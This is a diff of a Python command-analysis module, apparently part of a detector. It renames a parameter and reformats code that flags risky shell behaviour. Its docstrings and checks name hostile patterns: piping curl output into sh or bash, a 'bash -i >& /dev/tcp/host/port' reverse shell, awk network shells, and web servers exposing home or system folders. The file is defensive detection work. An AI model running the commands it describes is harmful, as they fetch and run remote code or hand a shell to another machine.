@@ -50,9 +50,9 @@ def reading(code: str, language: str) -> CodeReading | None:
     return reader(code) if reader and not reads_as_command(code) else None
 
 
-def paths(run: ProgramRun) -> tuple[str, ...]:
+def paths(program: ProgramRun) -> tuple[str, ...]:
     """The files that the code of an interpreter reads, where it puts their paths together."""
-    found = source(run)
+    found = source(program)
     parsed = reading(found[1], found[0]) if found and found[0] in READERS else None
     return parsed.paths if parsed else ()
 
@@ -75,24 +75,24 @@ def _origin(feed: StdinSource | None) -> tuple[str, frozenset[str]] | None:
     return None
 
 
-def hidden_text(run: ProgramRun, feed: StdinSource | None, *, piped: bool) -> Iterator[Effect]:
+def hidden_text(program: ProgramRun, feed: StdinSource | None, *, piped: bool) -> Iterator[Effect]:
     """A text that runs but is not visible. `piped`: it arrives through a pipe, not from a substitution."""
     origin = _origin(feed)
     if origin is not None:
-        yield Effect("run-text", origin[0], "", origin[1], run)
+        yield Effect("run-text", origin[0], "", origin[1], program)
     elif piped and feed is not None and feed.text is None and set(feed.programs) - _SAYERS:
-        yield Effect("run-text", " | ".join(feed.programs[:6]), "", frozenset({"unknown"}), run)
+        yield Effect("run-text", " | ".join(feed.programs[:6]), "", frozenset({"unknown"}), program)
 
 
-def _from_substitution(run: ProgramRun) -> Iterator[Effect]:
+def _from_substitution(program: ProgramRun) -> Iterator[Effect]:
     """`sh -c "$(curl ...)"`, `bash <(curl ...)`: words of an interpreter, up to its script, that a fetcher prints."""
-    for at, feed in run.given:
-        if any(("." in word or "/" in word) and word[:1] != "-" for word in run.argv[1:at]):
+    for at, feed in program.given:
+        if any(("." in word or "/" in word) and word[:1] != "-" for word in program.argv[1:at]):
             return
-        if 0 < at < len(run.argv) and (UNKNOWN in run.argv[at] or feed.text is not None):
-            alone = run.argv[at].strip(UNKNOWN + " ;\n") == "" or feed.text is not None or "/dev/fd" in run.argv[at]
-            if alone or run.argv[at - 1].startswith("-"):
-                yield from hidden_text(run, feed, piped=False)
+        if 0 < at < len(program.argv) and (UNKNOWN in program.argv[at] or feed.text is not None):
+            alone = program.argv[at].strip(UNKNOWN + " ;\n") == "" or feed.text is not None or "/dev/fd" in program.argv[at]
+            if alone or program.argv[at - 1].startswith("-"):
+                yield from hidden_text(program, feed, piped=False)
 
 
 _HANDED_OUT = lazy_re.compile(r"-[ilp]{1,3}\Z")
@@ -100,85 +100,94 @@ _SITS_THERE = program_catalogue.programs("session_opener")
 _STARTERS = program_catalogue.programs("shell_starter")
 
 
-def _shell_out(run: ProgramRun) -> Iterator[Effect]:
+def _shell_out(program: ProgramRun) -> Iterator[Effect]:
     """A shell without a script that another program starts: it escapes the restrictions of that program."""
-    if run.stdin is not None or any(word[:1] != "-" or not _HANDED_OUT.match(word) for word in run.argv[1:]):
+    if program.stdin is not None or any(word[:1] != "-" or not _HANDED_OUT.match(word) for word in program.argv[1:]):
         return
-    if any(redirect.kind in ("read", "text") for redirect in run.redirects) or not _SITS_THERE.isdisjoint(run.via):
+    if any(redirect.kind in ("read", "text") for redirect in program.redirects) or not _SITS_THERE.isdisjoint(program.via):
         return
-    starter = next((name for name in run.via if name in _STARTERS or plain_name(name) in LANGUAGES), "")
+    starter = next((name for name in program.via if name in _STARTERS or plain_name(name) in LANGUAGES), "")
     if starter:
-        yield Effect("shell-out", starter, "", frozenset(), run)
+        yield Effect("shell-out", starter, "", frozenset(), program)
 
 
-def _shell(run: ProgramRun, _: Where) -> Iterator[Effect]:
-    yield from _from_substitution(run)
-    yield from _shell_out(run)
-    if ("-c" not in run.argv and not is_script(run)) or "-s" in run.argv[1:4]:
-        yield from hidden_text(run, run.stdin, piped=True)
-    elif run.argv[1:2] and run.argv[1][:1] == "-" and any(word == UNKNOWN for word in run.argv[2:4]) and not run.given:
-        yield Effect("run-text", "a variable", "", frozenset({"variable"}), run)
-    yield from _socket_redirects(run)
+def _shell(program: ProgramRun, _: Where) -> Iterator[Effect]:
+    yield from _from_substitution(program)
+    yield from _shell_out(program)
+    if ("-c" not in program.argv and not is_script(program)) or "-s" in program.argv[1:4]:
+        yield from hidden_text(program, program.stdin, piped=True)
+    elif (
+        program.argv[1:2]
+        and program.argv[1][:1] == "-"
+        and any(word == UNKNOWN for word in program.argv[2:4])
+        and not program.given
+    ):
+        yield Effect("run-text", "a variable", "", frozenset({"variable"}), program)
+    yield from _socket_redirects(program)
 
 
-def _socket_redirects(run: ProgramRun) -> Iterator[Effect]:
+def _socket_redirects(program: ProgramRun) -> Iterator[Effect]:
     """`bash -i >& /dev/tcp/host/port`: a shell that takes commands from another machine."""
-    for redirect in run.redirects:
+    for redirect in program.redirects:
         if redirect.target.startswith(("/dev/tcp/", "/dev/udp/")):
-            yield Effect("remote-shell", redirect.target, "remote", frozenset(), run)
+            yield Effect("remote-shell", redirect.target, "remote", frozenset(), program)
             return
 
 
-def _evaluated(run: ProgramRun, _: Where) -> Iterator[Effect]:
+def _evaluated(program: ProgramRun, _: Where) -> Iterator[Effect]:
     """`eval`, `source` and `.`: their words are the command, or the file."""
-    yield from _from_substitution(run)
-    if run.name == "eval" and any(UNKNOWN in word for word in run.argv[1:]) and not run.given:
-        yield Effect("run-text", "a variable", "", frozenset({"variable"}), run)
-    if run.name != "eval" and (not run.argv[1:] or not {"-", "/dev/stdin"}.isdisjoint(run.argv[1:])):  # the former in fish
-        yield from hidden_text(run, run.stdin, piped=True)
+    yield from _from_substitution(program)
+    if program.name == "eval" and any(UNKNOWN in word for word in program.argv[1:]) and not program.given:
+        yield Effect("run-text", "a variable", "", frozenset({"variable"}), program)
+    if program.name != "eval" and (
+        not program.argv[1:] or not {"-", "/dev/stdin"}.isdisjoint(program.argv[1:])
+    ):  # the former in fish
+        yield from hidden_text(program, program.stdin, piped=True)
 
 
 _WIDE = frozenset({"root", "home", "system", "credentials"})
 
 
-def _serves(run: ProgramRun, where: Where) -> Iterator[Effect]:
+def _serves(program: ProgramRun, where: Where) -> Iterator[Effect]:
     """A web server whose folder is a home or the whole system. Serving a project folder is ordinary."""
     folder = ""
-    if run.argv[1:3] == ("-m", "http.server"):
-        folder = next((run.argv[i + 1] for i, word in enumerate(run.argv[:-1]) if word in ("-d", "--directory")), run.cwd)
-    elif run.argv[1:2] == ("-S",):
-        folder = next((run.argv[i + 1] for i, word in enumerate(run.argv[:-1]) if word == "-t"), run.cwd)
-    if folder and place(folder, where, run.cwd) in _WIDE:
-        yield Effect("listen", folder, place(folder, where, run.cwd), frozenset({"files"}), run)
+    if program.argv[1:3] == ("-m", "http.server"):
+        folder = next(
+            (program.argv[i + 1] for i, word in enumerate(program.argv[:-1]) if word in ("-d", "--directory")), program.cwd
+        )
+    elif program.argv[1:2] == ("-S",):
+        folder = next((program.argv[i + 1] for i, word in enumerate(program.argv[:-1]) if word == "-t"), program.cwd)
+    if folder and place(folder, where, program.cwd) in _WIDE:
+        yield Effect("listen", folder, place(folder, where, program.cwd), frozenset({"files"}), program)
 
 
-def _interpreter(run: ProgramRun, where: Where) -> Iterator[Effect]:
-    yield from _from_substitution(run)
-    yield from _serves(run, where)
-    found = source(run)
+def _interpreter(program: ProgramRun, where: Where) -> Iterator[Effect]:
+    yield from _from_substitution(program)
+    yield from _serves(program, where)
+    found = source(program)
     if found is None:
-        if not is_script(run) and language(run.name) != "awk":
-            yield from hidden_text(run, run.stdin, piped=True)
+        if not is_script(program) and language(program.name) != "awk":
+            yield from hidden_text(program, program.stdin, piped=True)
         return
     named, code = found
-    if not code.strip(UNKNOWN + " \n") and UNKNOWN in code and not run.given:
-        yield Effect("run-text", "a variable", "", frozenset({"variable"}), run)
-    if run.origin is None:
-        yield Effect("code", code, "", frozenset({named}), run)
+    if not code.strip(UNKNOWN + " \n") and UNKNOWN in code and not program.given:
+        yield Effect("run-text", "a variable", "", frozenset({"variable"}), program)
+    if program.origin is None:
+        yield Effect("code", code, "", frozenset({named}), program)
     parsed = reading(code, named)
     if parsed is not None:
-        yield from code_deeds.effects(parsed, run, where)
+        yield from code_deeds.effects(parsed, program, where)
         if parsed.whole:
             return
-    if run.origin is not None:
-        yield from _of_file(code, run, where)
+    if program.origin is not None:
+        yield from _of_file(code, program, where)
         return
     code = code[:MAX_CODE]
-    yield from network_effects(code, run)
+    yield from network_effects(code, program)
     if named != "awk":
-        yield from code_effects(code, run, where)
+        yield from code_effects(code, program, where)
     elif "/inet/" in code and "getline" in code:
-        yield Effect("remote-shell", clip(code), "remote", frozenset({"code"}), run)
+        yield Effect("remote-shell", clip(code), "remote", frozenset({"code"}), program)
 
 
 _SEARCHED = frozenset({"method", "delete-found", "sql", "send", "http"})
@@ -191,10 +200,10 @@ _OWN_METHOD = lazy_re.compile(r"(?:self|this|cls)\.[\w.]{0,80}\.(?:remove|delete
 _BEFORE, _BEHIND, _MAX_PARTS = 300, 500, 12
 
 
-def _of_file(code: str, run: ProgramRun, where: Where) -> Iterator[Effect]:
+def _of_file(code: str, program: ProgramRun, where: Where) -> Iterator[Effect]:
     """Code in a file is long, so what is found by several words at once must have them near each other."""
-    found = code_effects(code, run, where)
-    if run.origin is None or not run.origin.made:
+    found = code_effects(code, program, where)
+    if program.origin is None or not program.origin.made:
         yield from (effect for effect in found if effect.kind not in _SEARCHED)
         return
     yield from (effect for effect in found if effect.kind != "method" or not _OWN_METHOD.match(effect.target))
@@ -203,7 +212,7 @@ def _of_file(code: str, run: ProgramRun, where: Where) -> Iterator[Effect]:
         if match.start() < end or count >= _MAX_PARTS:
             continue
         start, end = max(match.start() - _BEFORE, end), match.end() + _BEHIND
-        yield from network_effects(code[start:end], run)
+        yield from network_effects(code[start:end], program)
 
 
 def _names() -> Iterable[str]:
